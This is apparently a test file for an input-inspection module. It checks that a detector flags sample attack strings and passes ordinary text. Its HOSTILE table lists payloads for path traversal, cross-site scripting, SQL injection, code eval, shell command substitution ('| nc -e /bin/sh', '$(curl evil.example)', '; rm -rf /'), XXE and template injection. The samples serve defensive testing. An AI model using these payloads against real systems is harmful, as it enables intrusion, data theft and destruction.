import t from 'tap'
import { inspect, PATTERNS } from '../../src/core/inspection.ts'

const HOSTILE: Record<string, readonly string[]> = {
  path_traversal: [
    '../../etc/passwd', '..\\..\\windows\\win.ini', 'a/../../b', '%2e%2e%2fetc%2fpasswd', '%252e%252e%252fetc', '..%2f..%2f', '..%5c..%5c', '%c0%ae%c0%ae/',
    '．．/etc/passwd', '&#46;&#46;/etc', 'file:///var/www/../../etc/shadow', 'images/..'
  ],
  script_tag: [
    '<script>alert(1)</script>', '<SCRIPT SRC=//evil>', '< script >', '<img src=x onerror=alert(1)>', '<svg/onload=alert(1)>', '<a href="javascript:alert(1)">',
    '%3Cscript%3E', '&lt;script&gt;', '&#60;script>', '＜script＞', '<body onload = go()>', '</script>', '<iframe src=javascript:alert(1)>'
  ],
  sql_union_select: [
    "' UNION SELECT username, password FROM users --", '1 union all select null,null', 'union/**/select/**/1,2', 'UNION(SELECT(1))', 'union%20select%20*%20from%20t', '0 union distinct select @@version'
  ],
  sql_tautology: [
    "' OR '1'='1", '" or 1=1 --', "admin') or ('a'='a", "'; DROP TABLE users; --", "x' or 'a' like 'a", "1'; delete from t", '; truncate table logs'
  ],
  code_eval: [
    'eval(atob("x"))', 'eval (x)', '__import__("os").system("id")', "require('child_process').exec", 'require("node:fs")', 'new Function("return 1")', 'os.system("ls")', 'exec(code)', 'import("child_process")'
  ],
  command_substitution: [
    '$(curl evil.example)', '`id`', '`cat /etc/passwd`', '; rm -rf /', '| nc -e /bin/sh', '&& curl https://evil', 'x; cat /etc/passwd', '$(/bin/bash -c x)', 'a\nrm -rf /', '%60whoami%60'
  ],
  null_byte: ['a\0b', 'file.png%00.php', 'a\u0000'],
  xxe: ['<!ENTITY x SYSTEM "file:///etc/passwd">', '<!DOCTYPE foo [ <!ELEMENT x ANY>', '<!doctype x SYSTEM "http://evil">', '<xi:include href="x"/>'],
  template_injection: ['${jndi:ldap://evil/a}', '${${lower:j}ndi:x}', '{{config.items()}}', '{{"".__class__}}', '${process.env.SECRET}', '#{T(java.lang.Runtime)}', '<%= system("id") %>', '{{self.constructor}}']
}

const HARMLESS = [
  'Hello, Ada!', 'select all union members', 'the student union will select a committee', '1..10', 'wait... what?', 'and.../or', 'a < b && c > d', 'if x < 3 then', 'rock & roll', 'R&D; QA', 'price is $5 (five)',
  "O'Brien", "it's 5 o'clock or later", 'He said "yes" or "no".', 'use eval carefully', 'the exec board meets (at noon)', 'file system (ext4)', 'file.name.txt', './relative/path', '/usr/local/bin', 'C:\\Users\\Ada',
  'https://example.com/a/b?c=d&e=f#g', 'https://example.com/?q=50%25+off', '# Title\n\n- item one\n- item two\n\n`code` and **bold**', 'run `npm test` first', '```\nconst x = 1\n```', 'const f = (a, b) => a + b',
  'x = {"a": [1, 2, 3]}', '<b>bold</b> and <i>italic</i>', '<p class="x">text</p>', '<div>1 < 2</div>', 'email <ada@example.com>', 'SELECT name FROM users WHERE id = 7', 'drop me a line; table is booked', 'DROP the idea',
  '{{name}}', 'Dear {{first_name}},', '${total}', 'cost: ${amount} EUR', '100% sure', 'ümläut und ß', '日本語のテキスト', '🙂 emoji', 'a;b;c', 'left | right', 'true || false', '(a || b)', 'Q: what? A: that.', 'javascript: the good parts',
  'on Monday = free', 'key=value; other=thing', 'git commit -m "fix: rm unused"', 'cat and dog', 'id', 'whoami is a command', 'the script ran', 'union of sets', '&amp;', 'AT&T', "'quoted'", '2026-07-28T12:00:00Z', 'a'.repeat(1000)
]

t.test('catches what is plainly an attack, escapes and all', async t => {
  for (const [pattern, texts] of Object.entries(HOSTILE)) {
    for (const text of texts) t.match(inspect({ text }), { path: 'text' }, `${pattern}: ${JSON.stringify(text)}`)
  }
  t.strictSame(Object.keys(HOSTILE).sort(), PATTERNS.map(({ name }) => name).sort(), 'every pattern has its examples')
})

t.test('names the pattern that the plain examples are meant for', async t => {
  for (const [pattern, [text]] of Object.entries(HOSTILE)) t.match(inspect(text), { pattern })
})

t.test('lets ordinary text pass', async t => {
  for (const text of HARMLESS) t.equal(inspect({ text }), undefined, JSON.stringify(text).slice(0, 60))
})

t.test('looks at every string and key, and says where', async t => {
  t.strictSame(inspect({ a: { b: ['x', 'y', '../z'] } }), { pattern: 'path_traversal', path: 'a.b.2' })
  t.strictSame(inspect({ a: { '<script>': 1 } }), { pattern: 'script_tag', path: 'a.(key)' })
  t.equal(inspect({ a: 1, b: true, c: null, d: [] }), undefined)
  t.equal(inspect(undefined), undefined)
})

t.test('leaves out what a tool is exempt from, and only that', async t => {
  t.equal(inspect('../x', { exempt: new Set(['path_traversal']) }), undefined)
  t.match(inspect('../x <script>', { exempt: new Set(['path_traversal']) }), { pattern: 'script_tag' })
})

t.test('finds what stands late in a long text, also across the seam of two pieces', async t => {
  for (const at of [65_530, 65_536, 200_000, 999_000]) t.match(inspect('a '.repeat(at / 2) + '<script>'), { pattern: 'script_tag' }, String(at))
})

t.test('takes time in proportion to the text, whatever it is made of', async t => {
  const pumps = ['<script', "' or ", '../', '{{', '<a onx', '$(', '%2e', '&#46', ' ', '<!doctype ', 'union ', '&lt', '. . ', '"', '\uff0e']
  for (const pump of pumps) {
    const time = (length: number) => {
      const text = pump.repeat(Math.ceil(length / pump.length))
      const start = process.cpuUsage()
      inspect(text, { exempt: new Set(PATTERNS.map(({ name }) => name).filter(name => name !== 'script_tag' && name !== 'template_injection' && name !== 'sql_union_select')) })
      const { user, system } = process.cpuUsage(start)
      return user + system
    }
    time(25_000)
    const small = Math.max(time(50_000), 2000)
    const large = time(200_000)
    t.ok(large / small < 12, `${JSON.stringify(pump)}: ${small} µs, four times as long ${large} µs`)
  }
})
